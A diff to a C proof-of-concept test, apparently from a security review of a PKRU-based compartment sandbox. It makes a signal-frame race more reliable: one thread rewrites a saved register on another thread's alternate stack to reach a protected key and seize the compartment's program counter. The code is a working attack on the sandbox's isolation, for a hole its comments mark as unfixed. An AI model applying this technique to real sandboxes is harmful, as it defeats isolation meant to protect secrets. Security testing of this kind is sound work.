@@ -15,7 +15,8 @@
 // chose. The same store could set the saved rip or rsp (a stack of the
 // attacker's making), i.e. control of the compartment's program counter.
 // Found in the second attacker-A review; succeeds natively and in the
-// 6.1 guest within a second. The threat model names only the frame's PKRU
+// 6.1 guest, usually in the first round of work (under a second); it
+// retries for up to ~10 s since it is a race. The threat model names only the frame's PKRU
 // as rewritable ("A handler's signal frame"); its registers are the same
 // problem and a PKRU check at rt_sigreturn would not stop this one.
 // Fix (not done): a frame that interrupted compartment code must not be
@@ -34,6 +35,7 @@
 #include <pthread.h>
 #include <sys/time.h>
 #include <time.h>
+#include <fcntl.h>
 
 extern __thread char *alt_stack __asm__("__bulkhead_sigstack")
     __attribute__((visibility("hidden")));
@@ -57,8 +59,13 @@ static volatile long ticks;
 static char *victim_alt;        /* the main thread's alternate stack */
 static long *target;
 
+static int tick_pipe[2]; /* the self-pipe trick: the main loop could poll it */
+
 static void on_alarm(int sig) {
   (void)sig;
+  if (write(tick_pipe[1], "t", 1) < 0) {
+    /* full: nobody polls it here */
+  }
   if (++ticks % 500 == 0)
     working_stop = 1; /* a round is over */
 }
@@ -69,19 +76,24 @@ static void on_alarm(int sig) {
 static void *attacker(void *unused) {
   (void)unused;
   volatile long *top = (volatile long *)(victim_alt + 4096 + (256 << 10));
-  volatile long *slot = NULL; /* where the kernel saves that register */
+  volatile long *slot[8]; /* where that register was seen: frames repeat */
+  int nslots = 0;
   long hits = 0;
-  while (!stop) {
-    if (slot) { /* the frame is at the same place every time */
-      if (*slot == (long)&progress)
-        *slot = (long)target, hits++;
+  for (unsigned long n = 0; !stop; n++) {
+    for (int k = 0; k < nslots; k++)
+      if (*slot[k] == (long)&progress)
+        *slot[k] = (long)target, hits++;
+    if (n % 256)
       continue;
-    }
-    for (volatile long *p = top - 2048; p < top; p++)
+    for (volatile long *p = top - 2048; p < top; p++) /* now and then, all of it */
       if (*p == (long)&progress) {
         *p = (long)target;
-        slot = p;
         hits++;
+        int known = 0;
+        for (int k = 0; k < nslots; k++)
+          known |= slot[k] == p;
+        if (!known && nslots < 8)
+          slot[nslots++] = p;
       }
   }
   return (void *)hits;
@@ -91,6 +103,7 @@ int main(void) {
   target = vault_where();
   victim_alt = alt_stack; /* key-0 TLS: any thread can read it through the TCB */
   CHECK(victim_alt);
+  CHECK(pipe2(tick_pipe, O_NONBLOCK) == 0);
   sigset_t alrm;
   sigemptyset(&alrm);
   sigaddset(&alrm, SIGALRM);
@@ -102,8 +115,8 @@ int main(void) {
   CHECK(sigaction(SIGALRM, &sa, NULL) == 0);
   struct itimerval it = {{0, 200}, {0, 200}}; /* a timeout tick */
   CHECK(setitimer(ITIMER_REAL, &it, NULL) == 0);
-  /* Rounds of work until the key changed, for at most 5 s: a race. */
-  for (int round = 0; round < 25 && vault_key_intact(); round++) {
+  /* Rounds of work until the key changed, for at most ~10 s: a race. */
+  for (int round = 0; round < 100 && vault_key_intact(); round++) {
     vault_work(&progress, &working_stop);
     working_stop = 0;
   }
